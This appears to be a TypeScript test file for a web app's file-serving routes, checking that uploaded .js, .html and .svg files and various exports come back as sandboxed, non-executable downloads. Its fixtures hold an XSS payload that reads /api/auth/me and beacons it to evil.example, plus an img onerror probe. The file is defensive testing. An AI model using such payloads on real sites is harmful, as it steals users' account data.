/**
 * Every route that sends a user's file back (#25, defect 9; ADR 049): a file that a
 * browser could run (.js, .html, .svg) comes back as a download whose type cannot run,
 * with nosniff and a sandboxing CSP, so `<script src=/api/…/content>` from our own origin
 * does nothing. Images the product shows in <img> stay inline, inert all the same.
 */
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sameOrigin, signUpUser } from '../support/auth';
import { createTestApp, json, type TestApp } from '../support/create-test-app';
import { multipartBody } from '../support/multipart';
import { importsApi, jpeg } from '../support/worlds';
import type { CreatedWorldShare } from '../../src/contract/worlds';

const SCRIPT = "fetch('/api/auth/me').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example', t));\n";
const HTML = `<!doctype html><html><body><script>${SCRIPT}</script></body></html>\n`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>\n`;

/** What a browser may never execute: a type of its own, the CSP sandbox, nosniff. */
function expectInertDownload(res: LightMyRequestResponse, what: string) {
  expect(res.statusCode, `${what}: ${res.body.slice(0, 200)}`).toBe(200);
  const type = String(res.headers['content-type']);
  expect(type, what).toMatch(/^(application\/octet-stream|text\/plain; charset=utf-8|text\/markdown; charset=utf-8|text\/csv; charset=utf-8|application\/json; charset=utf-8)$/);
  expect(String(res.headers['content-disposition']), what).toMatch(/^attachment; filename="/);
  expect(res.headers['x-content-type-options'], what).toBe('nosniff');
  expect(String(res.headers['content-security-policy']), what).toMatch(/(^|; )sandbox(;|$)/);
  expect(String(res.headers['content-security-policy']), what).toContain("default-src 'none'");
}

describe('user files come back inert (#25, defect 9)', () => {
  let t: TestApp;
  let cookie: string;
  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: { cookie } });

  beforeAll(async () => {
    t = await createTestApp();
    cookie = (await signUpUser(t.app)).cookie;
  });
  afterAll(() => t.close());

  it('uploads (/api/uploads/:id/content): .js, .html and .svg are attachments that cannot run', async () => {
    for (const [name, content] of [
      ['steal.js', SCRIPT],
      ['page.html', HTML],
      ['drawing.svg', SVG],
    ] as const) {
      const body = multipartBody([{ field: 'file', filename: name, content }]);
      const up = await t.app.inject({ method: 'POST', url: '/api/uploads', payload: body.payload, headers: { ...body.headers, ...sameOrigin(cookie) } });
      expect(up.statusCode, up.body).toBe(201);
      const res = await get(`/api/uploads/${json<{ id: string }>(up).id}/content`);
      expectInertDownload(res, name);
      expect(res.headers['content-type']).not.toMatch(/javascript|html|svg|xml/);
      expect(res.body).toBe(content);
    }
  });

  it('the files workspace (/api/workspaces/:id/files/:fileId/content): a .js file is not text/javascript', async () => {
    const ws = json<{ id: string }>(await t.app.inject({ method: 'POST', url: '/api/workspaces/i2sf', headers: sameOrigin(cookie) }));
    const body = multipartBody([{ field: 'file', filename: 'steal.js', contentType: 'text/javascript', content: SCRIPT }]);
    const up = await t.app.inject({ method: 'POST', url: `/api/workspaces/${ws.id}/files`, headers: { ...sameOrigin(cookie), ...body.headers }, payload: body.payload });
    expect(up.statusCode, up.body).toBe(201);
    const res = await get(`/api/workspaces/${ws.id}/files/${json<{ id: string }>(up).id}/content`);
    expectInertDownload(res, 'workspace .js');
    expect(res.headers['content-type']).toBe('application/octet-stream');
    expect(res.headers['content-disposition']).toBe('attachment; filename="steal.js"');
    expect(res.body).toBe(SCRIPT);
  });

  it('an outline export with markup in it is an inert download', async () => {
    const page = await t.app.inject({ method: 'POST', url: '/api/outline/import', headers: sameOrigin(cookie), payload: { format: 'markdown', content: `# <script>${SCRIPT}</script>\n\n- <img src=x onerror=alert(1)>\n` } });
    expect(page.statusCode, page.body).toBe(201);
    const id = json<{ id: string }>(page).id;
    expectInertDownload(await get(`/api/outline/pages/${id}/export?format=markdown`), 'outline markdown');
    const opml = await get(`/api/outline/pages/${id}/export?format=opml`);
    expectInertDownload(opml, 'outline opml');
    // OPML is XML: a browser would parse it as a document, so it is not sent as XML.
    expect(opml.headers['content-type']).toBe('application/octet-stream');
  });

  it('worlds: photo thumbnails stay inline images but sandboxed; the JSON export and a shared link’s are inert downloads', async () => {
    const api = importsApi(t.app);
    expect((await api.importFile(cookie, await jpeg({ color: '#a37', takenAt: '2024:03:20 12:00:00', at: [48.85, 2.35] }), 'IMG_2.jpg')).status).toBe('done');
    const photos = json<{ photos: { id: string }[] }>(await get('/api/worlds/photos')).photos;
    const thumb = await get(`/api/worlds/photos/${photos[0]!.id}/thumbnail`);
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/jpeg');
    expect(String(thumb.headers['content-disposition'])).toMatch(/^inline; filename="/);
    expect(thumb.headers['x-content-type-options']).toBe('nosniff');
    expect(String(thumb.headers['content-security-policy'])).toMatch(/(^|; )sandbox(;|$)/);
    expectInertDownload(await get('/api/worlds/export?world=map'), 'world export');

    const share = json<CreatedWorldShare>(await t.app.inject({ method: 'POST', url: '/api/worlds/shares', headers: sameOrigin(cookie), payload: { world: 'map' } }));
    expectInertDownload(await t.app.inject({ method: 'GET', url: `/api/worlds/shared/${share.token}/export?world=map` }), 'shared export');
  });

  it('exports of account data and usage are inert downloads too', async () => {
    expectInertDownload(await get('/api/auth/export'), 'account export');
  });
});
